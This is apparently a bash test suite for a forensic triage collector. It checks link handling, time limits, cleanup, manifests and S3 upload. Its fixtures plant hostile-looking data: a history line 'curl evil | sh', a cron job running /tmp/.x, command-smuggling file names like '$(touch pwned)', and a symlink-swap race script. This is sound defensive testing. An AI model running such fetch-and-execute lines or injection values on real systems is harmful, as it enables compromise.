#!/usr/bin/env bash
# collector.sh - the collector itself, by every shell that is here, among hostile files.
. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"

collector=$root/stdlib/collector/collector.sh
holds "nothing in it means anything to Systems Manager" bash -c '! grep -qF "{{" "$1"' - "$collector"
# No PowerShell runs here: what of it can be seen in the text.
powershell=$root/stdlib/collector/collector.ps1
holds "on Windows programs run in one place alone, where what they print ends nothing" \
    test "$(grep -E '& *["$][^|]*2>&1|& *"[^"]*\.exe"' "$powershell")" = '    & $program $arguments 2>&1 | ForEach-Object { [string]$_ }'
holds "and programs past the end of the time are told" bash -c "grep -A1 'if (Test-Late) {' '$powershell' | grep -q \"Add-Skip 'programs' 'out of time'\""
holds "it is small" test "$(wc -c <"$collector")" -lt 32768

# A host with things laid out for whoever collects.
host=$work/host
mkdir -p "$host"/{etc/cron.d,var/log,var/tmp,dev/shm,tmp/deep,home/bob,home/eve,secret,root}
printf 'secret-of-somebody-else\n' >"$host/secret/key"
printf 'root:x:0:0::/root:/bin/sh\nbob:x:1:1::/home/bob:/bin/sh\neve:x:2:2::/home/eve:/bin/sh\nodd:x:3:3::/:/bin/sh\n' >"$host/etc/passwd"
printf 'sshd: accepted for eve\n' >"$host/var/log/auth.log"
printf '* * * * * root /tmp/.x\n' >"$host/etc/cron.d/evil"
printf 'curl evil | sh\n' >"$host/home/bob/.bash_history"
ln -s "$host/secret/key" "$host/home/eve/.bash_history"
ln -s "$host/secret" "$host/home/eve/.ssh"
ln "$host/secret/key" "$host/home/eve/.viminfo"
ln "$host/secret/key" "$host/tmp/deep/hard"
printf 'ssh-ed25519 AAAA\n' >"$host/secret/authorized_keys"
ln -s "$host/secret/key" "$host/etc/crontab"
ln -s "$host/secret/key" "$host/tmp/link"
ln -s "$host/secret" "$host/tmp/folder"
mkfifo "$host/tmp/fifo" "$host/home/bob/.zsh_history"
mkdir "$host/home/bob/.profile"
cd "$host/tmp" || exit 2
# shellcheck disable=SC2016 # they are names
touch '$(touch pwned)' '`touch pwned`' ./-rf \
    "$host/tmp/a\"b'c;d|e&f" "$host/tmp/ lead" "$host/tmp/\\n" \
    "$host/tmp/"$'new\nline\nkept\tetc-9\t1\t' "$host/tmp/"$'esc\e[31m' "$host/tmp/"$'\xff\xfe'
printf 'x' >"$host/tmp/"$'\xff\xfe'
cd "$work" || exit 2
printf 'payload\n' >"$host/tmp/deep/payload"
dd if=/dev/zero of="$host/var/log/secure" bs=1M count=3 2>/dev/null
printf 'the newest line\n' >>"$host/var/log/secure"
find "$host" >before

# The same without what takes long on a machine that does much else.
lean=$work/lean.sh
sed 's/hashes_max=300/hashes_max=3/; s/head -c 16777216 <"$exe"/head -c 1000 <"$exe"/; s/^\( *\)tool /\1: tool /' "$collector" >"$lean"

# collect SHELL.. : its last line in `told`, the archive unpacked in `got`
collect() {
    rm -rf got kept.tar.gz told.txt
    CDR_ROOT=$host CDR_KEEP=$work/kept.tar.gz CDR_PROFILE=${profile:-quick} timeout 600 "$@" "${script:-$collector}" >told.txt 2>collector.err </dev/null
    status=$?
    tail -n 1 told.txt >"$out"
    : >"$err"
    mkdir -p got
    tar -C got -xzf kept.tar.gz 2>/dev/null
}
# Whether the folder holds what its manifest says, and nothing else.
verified() {
    python3 - "$1" <<'END'
import hashlib, json, os, sys
at = sys.argv[1]
files = json.load(open(at + "/manifest.json"))["files"]
for one in files:
    content = open(os.path.join(at, one["path"]), "rb").read()
    assert len(content) == one["bytes"] and hashlib.sha256(content).hexdigest() == one["sha256"], one
there = {os.path.relpath(os.path.join(d, f), at) for d, _, names in os.walk(at) for f in names}
assert there == {one["path"] for one in files} | {"manifest.json"}, there ^ {one["path"] for one in files}
END
}
manifest() { jq -e "$@" got/triage/manifest.json >/dev/null 2>&1; }
manifest_hex() { jq -r '[.files[], .skipped[]][] | select(.from_hex) | .from_hex' got/triage/manifest.json | grep -F fffe | head -n 1; }
# Folders that are there and stay: those of another test's collector go away by themselves.
leftovers() {
    local there
    there=$(find /var/tmp /tmp /dev/shm -maxdepth 1 -name 'cdr-??????????' -user "$(id -u)" -newer before 2>/dev/null)
    for _ in $(seq 60); do
        there=$(for one in $there; do [ ! -e "$one" ] || echo "$one"; done)
        [ -n "$there" ] || break
        sleep 1
    done
    echo "$there"
}

# A program whose file is gone.
cp /bin/sleep "$work/gone"
"$work/gone" 300 &
child=$!
children+=("$child")
sleep 0.3
rm -f "$work/gone"

for shell in dash 'bash --posix' 'busybox sh'; do
    command -v "${shell%% *}" >/dev/null || { skip "$shell collects" "it is not installed"; continue; }
    script=$collector profile=full
    [ "$shell" = dash ] || script=$lean profile=quick
    # shellcheck disable=SC2086 # two words
    collect $shell
    exits 0 "$shell: it ends well"
    holds "$shell: its last line is one JSON object" json '.cdr == "triage" and .uploaded == "no" and .error == "" and .files > 20'
    holds "$shell: with the sum of the archive" test "$(jq -r .sha256 "$out")" = "$(sha256sum kept.tar.gz | cut -d' ' -f1)"
    holds "$shell: and its size" test "$(jq -r .bytes "$out")" = "$(stat -c %s kept.tar.gz)"
    holds "$shell: nothing else is printed" test "$(wc -l <told.txt)" = 1
    holds "$shell: nothing that was found was run" test -z "$(find "$work" / -maxdepth 1 -name pwned)" -a ! -e "$host/tmp/pwned"
    holds "$shell: names in the archive are ours" bash -c '! tar -tzf "$1" | grep -vE "^triage/[a-zA-Z0-9/._-]*$"' - kept.tar.gz
    holds "$shell: the manifest is JSON that says what it is" \
        manifest '.cdr == "triage" and .state == "partial" and (.files | length > 20) and .kernel != ""'
    holds "$shell: and every file is as it says" verified got/triage
    holds "$shell: names that are no plain text stand there byte for byte" \
        test "$(manifest_hex)" = "$(printf '%s' "$host/tmp/"$'\xff\xfe' | od -An -v -tx1 | tr -d ' \n')"
    holds "$shell: no link is followed to what is not its own" bash -c '! grep -rqF secret-of-somebody-else "$1"' - got
    holds "$shell: nor a folder's" bash -c '! grep -rqF ssh-ed25519 "$1"' - got
    holds "$shell: which is told" grep -qF 'a link to ' got/triage/manifest.json
    holds "$shell: nor a hard one, which is told" grep -q 'viminfo.*it has another name' got/triage/manifest.json
    holds "$shell: what is no regular file is told" grep -q 'zsh_history.*no regular file' got/triage/manifest.json
    holds "$shell: histories are there" grep -rqF 'curl evil | sh' got/triage/home
    holds "$shell: logins too" grep -rqF 'accepted for eve' got/triage/log
    holds "$shell: and what starts by itself" grep -rqF '/tmp/.x' got/triage/autostart
    holds "$shell: of a long log the newest" grep -rqF 'the newest line' got/triage/log
    holds "$shell: hostile names are listed" grep -qF "a\"b'c;d|e&f" got/triage/recent/tmp.tsv
    holds "$shell: a name is one line" grep -qF 'new?line?kept' got/triage/recent/tmp.tsv
    holds "$shell: sockets too" test -s got/triage/network/proc-tcp
    holds "$shell: it takes its own folder away" test -z "$(leftovers)"
    find "$host" >after
    holds "$shell: and leaves the host as it was" cmp -s before after
    holds "$shell: processes are listed" grep -qE "^$$"$'\t' got/triage/processes/list.tsv
    [ "$script" = "$collector" ] || continue
    holds "$shell: recent files have their sums" grep -q "$(sha256sum <"$host/tmp/deep/payload" | cut -d' ' -f1)" got/triage/recent/tmp.sha256
    holds "$shell: with the sums of their programs" grep -q "$(sha256sum <"/proc/$$/exe" | cut -d' ' -f1)" got/triage/processes/programs.tsv
    holds "$shell: the content of a deleted program is kept" cmp -s "got/triage/processes/deleted-$child" /bin/sleep
    holds "$shell: and small files of everybody's folders" bash -c 'grep -rqx payload "$1"' - got/triage/recent
done

# Parts of it alone, with what may happen meanwhile written into it by sed.
taken() { # ARTIFACTS SED [NAME=VALUE ..]
    local take=$1 edit=$2
    shift 2
    sed "$edit" "$collector" >part.sh
    rm -rf got kept.tar.gz
    env CDR_ROOT="$host" CDR_KEEP="$work/kept.tar.gz" CDR_TAKE="$take"$'\n' "$@" timeout 120 dash part.sh >told.txt 2>collector.err </dev/null
    status=$?
    tail -n 1 told.txt >"$out"
    mkdir -p got
    tar -C got -xzf kept.tar.gz 2>/dev/null
}
: >"$host/var/log/auth.log.1"
taken logs ''
holds "an emptied log is told" manifest '.files | any(.state == "empty" and (.from | test("auth.log.1$")))'
holds "one that was cut makes it partial, in the same words wherever it stands" json '.state == "partial" and .why == "1 cut to a part"'
rm -f "$host/var/log/auth.log.1"
taken system 's,^    tool system/id id,    tool system/id false,'
holds "a tool that fails is told" manifest '.skipped | any(.from == "false" and .why == "tool")'
taken processes 's/^entries_max=.*/entries_max=3 hashes_max=3/'
holds "processes over the limit are told" manifest '.skipped | any(.why == "limit" and (.note | test("more than 3 processes")))'
holds "and no line of the list is ours" bash -c '! grep -q "^cut" got/triage/processes/list.tsv'
taken processes 's/^entries_max=.*/entries_max=1 hashes_max=3/; s,head -c 4096 "/proc/$1/cmdline",sleep 9,'
holds "a command line that never comes is not waited for" manifest '.skipped | any(.why == "late" and (.from | test("cmdline$")))'
taken open_files 's/^entries_max=.*/entries_max=3 hashes_max=3/; s/fd 500$/fd 2/'
holds "open files over the limit are told" manifest '.skipped | any(.why == "limit" and (.note == "more than 2 lines"))'
taken recent_files 's/briefly find "$1"/briefly find \/no-such-place "$1"/'
holds "a search that fails is told" manifest '.skipped | any(.note == "not all of it can be looked through")'
taken recent_files 's/hashes_max=300/hashes_max=2/'
holds "files that were not hashed are told" manifest '.skipped | any(.note == "more than 2 files to hash")'
taken users 's/tar -C "$work" -cf - triage/sh -c "head -c 9000 \/dev\/urandom; exit 2"/'
exits 1 "an archive that tar did not finish is none"

# A folder that becomes a link between a look and the next.
cat >swap <<END
#!/bin/sh
case \$1 in */victim/key) mv "$host/tmp/victim" "$host/tmp/was-victim" && ln -s "$host/secret" "$host/tmp/victim" ;; esac 2>/dev/null
END
chmod 755 swap
for when in 's,^    size=$(size_of "$1").*,"$SWAP" "$1"; &,' 's,^take() {.*,&\n    "$SWAP" "$2",' \
    's,^        at=$((at + 1)),"$SWAP" "${file:-}"; &,'; do
    mkdir -p "$host/tmp/victim" && printf 'mine\n' >"$host/tmp/victim/key"
    taken recent_content "$when" SWAP="$work/swap"
    holds "the folder was swapped" test -L "$host/tmp/victim"
    holds "what a folder was swapped for is not taken" bash -c '! grep -rqF secret-of-somebody-else got'
    holds "which is told" manifest '.skipped | any(.why == "link" and (.from | test("victim/key$")))'
    rm -rf "$host/tmp/victim" "$host/tmp/was-victim"
done

# Somebody lays out more than there is time for.
mkdir -p "$host/home/bob/.config/autostart"
(cd "$host/home/bob/.config/autostart" && seq 4000 | xargs touch)
before_s=$(date +%s)
taken histories '' CDR_SECONDS=3
holds "many files to start by themselves take no longer than there is" test $(($(date +%s) - before_s)) -lt 13
holds "and what was there of others comes back" bash -c 'grep -rqF "curl evil | sh" got/triage/home'
holds "which is partial" json '.state == "partial"'
rm -rf "$host/home/bob/.config"

# As nobody in particular.
if [ "$(id -u)" = 0 ] && command -v setpriv >/dev/null; then
    chmod 755 "$work" && chmod 700 "$host/home/bob"
    mkdir -m 700 "$host/tmp/closed"
    install -m 644 "$lean" "$work/collector.copy" && mkdir -m 777 "$work/open"
    CDR_ROOT=$host CDR_KEEP=$work/open/kept.tar.gz timeout 600 setpriv --reuid 65534 --regid 65534 --clear-groups \
        dash "$work/collector.copy" >told.txt 2>/dev/null </dev/null
    status=$?
    tail -n 1 told.txt >"$out"
    exits 0 "it ends well without rights"
    rm -rf got && mkdir got && tar -C got -xzf open/kept.tar.gz
    holds "what it may not read is told" grep -q 'home/bob.*no permission' got/triage/manifest.json
    holds "programs of others too" manifest '.skipped | any(.from == "/proc/1/exe" and .note == "no permission")'
    holds "and folders" manifest '.skipped | any((.from | test("/tmp$")) and .note == "not all of it can be looked through")'
    rmdir "$host/tmp/closed"
    holds "and counted" json '.skipped > 0 and .files > 10'
    chmod 755 "$host/home/bob"
else
    skip "it ends well without rights" "this is not root"
fi

# A hundred thousand files.
mkdir "$host/tmp/many"
(cd "$host/tmp/many" && seq 100000 | xargs touch)
before_s=$(date +%s)
script=$lean profile=quick
collect dash
exits 0 "100,000 files are no trouble"
holds "within its time" test $(($(date +%s) - before_s)) -lt 300
holds "of which the newest are listed" test "$(wc -l <got/triage/recent/tmp.tsv)" -le 10000
holds "and the rest is told" grep -q 'only the newest 10000' got/triage/manifest.json
rm -rf "$host/tmp/many"

# Detached, as over Real Time Response and live response: the scripts that cdr sends.
made=$(dirname "${CDR##* }")/tests/unit/test_collector
places=$work/places
mkdir "$places"
scripted() {
    TMPDIR=$places CDR_ROOT=$host timeout 60 dash -c "$("$made" "$@")" >"$out" 2>"$err"
    status=$?
}
settled() { # KEY : the status, once it is an end
    for _ in $(seq 300); do
        scripted status linux "$1"
        json '.state != "running"' && return
        sleep 0.2
    done
}
web='{"linux":{"files":["/var/log/*.log","/home/*/.bash_history","/no such/$(touch pwned)"],"most":50,"take":["connections","users"]},"profile":"web"}'
if [ -x "$made" ]; then
    scripted status linux web-1
    holds "nothing is there before it was started" json '.state == "none"'
    scripted start linux web-1 "$web"
    prints "cdr-collector started" "it is started"
    scripted start linux web-1 "$web"
    prints "cdr-collector running" "and only once"
    holds "in a directory for us alone" test "$(stat -c %a "$places/cdr-web-1")" = 700
    settled web-1
    holds "its end is told" json '.state == "partial" and .profile == "web" and .files > 3 and .clock_offset > 1000'
    holds "with the reason" json '.why | test("behind links")'
    holds "and the sum of the archive" test "$(jq -r .sha256 "$out")" = "$(sha256sum <"$places/cdr-web-1/triage.tar.gz" | cut -d' ' -f1)"
    rm -rf got && mkdir got && tar -C got -xzf "$places/cdr-web-1/triage.tar.gz"
    holds "every file is as the manifest says" verified got/triage
    holds "files are taken by pattern" manifest '[.files[].from] | any(test("auth.log$")) and any(test("bob/.bash_history$"))'
    holds "what is not there is told" manifest '.absent | any(.from == "/no such/$(touch pwned)")'
    holds "what the profile does not take is left" test ! -e got/triage/processes
    scripted start linux web-1 "$web"
    prints "cdr-collector running" "it is not started again after its end"
    scripted clean linux web-1
    prints "cdr-collector clean" "and is taken away"
    holds "entirely" test ! -e "$places/cdr-web-1"

    ln -s "$host/secret" "$places/cdr-link"
    scripted start linux link "$web"
    exits 1 "a link is refused"
    prints "cdr-collector refused" "which is told"
    scripted clean linux link
    exits 1 "and not followed to be removed"
    holds "with what is in it" test -f "$host/secret/key"
    mkdir -m 777 "$places/cdr-open"
    scripted start linux open "$web"
    exits 1 "a directory of everybody is refused"
    if [ "$(id -u)" = 0 ]; then
        mkdir -m 700 "$places/cdr-theirs" && chown 65534 "$places/cdr-theirs"
        scripted start linux theirs "$web"
        exits 1 "somebody else's directory is refused"
    else
        skip "somebody else's directory is refused" "this is not root"
    fi

    # A collector of the user's own, and its end by kill -9.
    mkdir -p own/tool-1.0
    printf '#!/bin/sh\nprintf "%%s|" "$@" >"$2/words"\nif [ "$1" = wait ]; then sleep 300; fi\nexit "$3"\n' >own/tool-1.0/run
    chmod 755 own/tool-1.0/run
    tar -C own -czf tool.tar.gz tool-1.0
    own() { # WORD CODE SUM
        jq -cn --arg word "$1" --arg code "$2" --arg sum "$3" \
            '{collector: "own", linux: {file: "tool.tar.gz", sha256: $sum, command: ["./run", $word, "{output}", $code, "two words", "$(touch pwned)", "it'"'"'s"]}}'
    }
    sum=$(sha256sum <tool.tar.gz | cut -d' ' -f1)
    scripted start linux own-1 "$(own go 0 "$sum")" "$work/tool.tar.gz"
    settled own-1
    holds "a collector of one's own runs" json '.state == "complete" and .skipped == 0'
    rm -rf got && mkdir got && tar -C got -xzf "$places/cdr-own-1/triage.tar.gz"
    holds "with the words that it was given" grep -qF 'two words|$(touch pwned)|it'"'"'s|' got/triage/own/words
    holds "the manifest has its hash" manifest --arg sum "$sum" '.tool.sha256 == $sum'
    holds "and its files" verified got/triage
    scripted start linux own-2 "$(own go 3 "$sum")" "$work/tool.tar.gz"
    settled own-2
    holds "one that fails is partial" json '.state == "partial" and (.why | test("1 tools that failed"))'
    scripted start linux own-3 "$(own go 0 "${sum/[0-9]/f}")" "$work/tool.tar.gz"
    settled own-3
    holds "one with another hash is not run" json '.state == "failed" and (.why | test("another hash"))'
    scripted start linux own-4 "$(own wait 0 "$sum")" "$work/tool.tar.gz"
    for _ in $(seq 100); do [ -s "$places/cdr-own-4/work/triage/own/words" ] && break || sleep 0.1; done
    scripted status linux own-4
    holds "it is at work" json '.state == "running"'
    read -r watch _ <"$places/cdr-own-4/process"
    holds "as a process" kill -0 "$watch"
    kill -9 -- "-$watch"
    for _ in $(seq 50); do kill -0 "$watch" 2>/dev/null && sleep 0.1; done
    scripted status linux own-4
    holds "which was killed: it failed" json '.state == "failed" and (.why | test("was ended"))'
    scripted start linux own-4 "$(own wait 0 "$sum")" "$work/tool.tar.gz"
    prints "cdr-collector running" "and it is not begun anew"
    scripted clean linux own-4
    holds "killed ones are taken away too" test ! -e "$places/cdr-own-4"

    # What it writes that no manifest can hold; and one that does not want to end.
    mkdir odd
    cat >odd/odd <<'END'
#!/bin/sh
printf 'x' >"$1/hidden
manifest" && mkdir "$1/in
side" && printf 'x' >"$1/in
side/y" && ln -s /etc/passwd "$1/link" && printf 'fine' >"$1/fine" && head -c 3000000 /dev/zero >"$1/much"
END
    cat >odd/stays <<'END'
#!/bin/sh
trap '' TERM
setsid sh -c 'trap "" TERM; echo $$ >"$1/far"; while :; do sleep 1; done' - "$1" &
echo $$ >"$1/pid"
while :; do sleep 1; done
END
    chmod 755 odd/odd odd/stays
    plain() { # FILE SECONDS
        jq -cn --arg file "$1" --arg sum "$(sha256sum <"odd/$1" | cut -d' ' -f1)" --argjson time "$2" \
            '{collector: "own", linux: {file: ("/opt/" + $file), sha256: $sum, time: $time, archive_mb: 2, command: ["./" + $file, "{output}"]}}'
    }
    cp odd/odd cdr-0011 && cp odd/stays cdr-2233
    scripted start linux odd-1 "$(plain odd 30)" "$work/cdr-0011"
    settled odd-1
    holds "names that are no line and links of its own make it partial" json '.state == "partial"'
    rm -rf got && mkdir got && tar -C got -xzf "$places/cdr-odd-1/triage.tar.gz"
    holds "the archive has what its manifest has" verified got/triage
    holds "what is left out is told" manifest '[.skipped[].note] | any(test("hidden")) and any(test("own/link")) and any(test("left out"))'
    holds "and the rest is there" grep -qx fine got/triage/own/fine
    scripted clean linux odd-1
    started_s=$(date +%s)
    scripted start linux stays-1 "$(plain stays 2)" "$work/cdr-2233"
    settled stays-1
    holds "one that ignores its end is killed" json '.state == "partial" and (.why | test("out of time"))'
    holds "soon" test $(($(date +%s) - started_s)) -lt 40
    scripted clean linux stays-1
    prints "cdr-collector clean" "and taken away"
    scripted start linux stays-2 "$(plain stays 600)" "$work/cdr-2233"
    own=$places/cdr-stays-2/work/triage/own
    for _ in $(seq 100); do if [ -s "$own/pid" ] && [ -s "$own/far" ]; then break; fi; sleep 0.1; done
    read -r near <"$own/pid" && read -r far <"$own/far"
    holds "another is at work" kill -0 "$near" "$far"
    scripted clean linux stays-2
    prints "cdr-collector clean" "one at work is taken away"
    holds "with all that it started" bash -c '! grep -qs "^State:.[^ZX]" "/proc/$0/status" "/proc/$1/status"' "$near" "$far"
    mkdir -m 700 "$places/cdr-twice-1" && echo old >"$places/cdr-twice-1/watch.sh" && ln "$places/cdr-twice-1/watch.sh" old-watch
    scripted start linux twice-1 "$web"
    settled twice-1
    holds "nothing is written over that another start may read" grep -qx old old-watch
    scripted clean linux twice-1

    # What goes away while it is read.
    mkfifo "$host/var/log/pipe.log" && ln -s "$host/gone" "$host/var/log/gone.log"
    scripted start linux gone-1 "$web"
    settled gone-1
    holds "what cannot be taken makes it partial" json '.state == "partial" and .skipped > 1'
    rm -f "$host/var/log/pipe.log" "$host/var/log/gone.log"
    holds "nothing of a profile was run" test -z "$(find "$work" "$places" / -maxdepth 1 -name pwned)"
else
    skip "the detached form" "there is no $made"
fi

# It uploads with what is there, to an address that was signed for it.
start_sandbox
bucket=cdr-evidence-111122223333
sandbox_tell faults '[{"operation":"SendCommand","kind":"fail_before","times":9}]'
run collect triage --host i-01111e1c0ffee0001 to=s3://$bucket/real --data data
sandbox_tell faults '[]'
address=$(sandbox_ask calls | jq -r '[.[] | select(.operation == "SendCommand")][0].parameters["Parameters.commands.2"]')
holds "an address was sent" bash -c '[[ $1 == http://127.0.0.1:*X-Amz-Signature=* ]]' - "$address"
upload() { # TOOL ADDRESS
    { printf "read -r CDR_PUT <<'CDR_END'\n%s\nCDR_END\nCDR_PROFILE=quick\n" "$2" &&
        sed "s/^for try in curl wget python3; do/for try in $1; do/" "$lean"; } >with.sh
    CDR_ROOT=$host CDR_KEEP=$work/kept.tar.gz dash with.sh >told.txt 2>/dev/null </dev/null
    status=$?
    tail -n 1 told.txt >"$out"
}
stored() { sandbox_ask state | jq -r '[.accounts[].buckets[].objects[] | select(.key | startswith("real/"))] | last | .content' | base64 -d | sha256sum | cut -d' ' -f1; }
for tool in curl wget python3; do
    [ -x "/usr/bin/$tool" ] || { skip "$tool uploads" "it is not in /usr/bin"; continue; }
    sandbox_tell reset ''
    upload "$tool" "$address"
    exits 0 "$tool uploads"
    holds "$tool: which is told" json '.uploaded == "yes"'
    holds "$tool: and S3 has what was packed" test "$(stored)" = "$(jq -r .sha256 "$out")"
done
upload curl "$address"
exits 0 "what is there already is not written over"
holds "which is told" json '.uploaded == "exists"'
upload curl "${address/real/other}"
exits 1 "a tampered address is refused"
holds "with the status" json '.uploaded == "no" and (.error | test("403"))'
finish
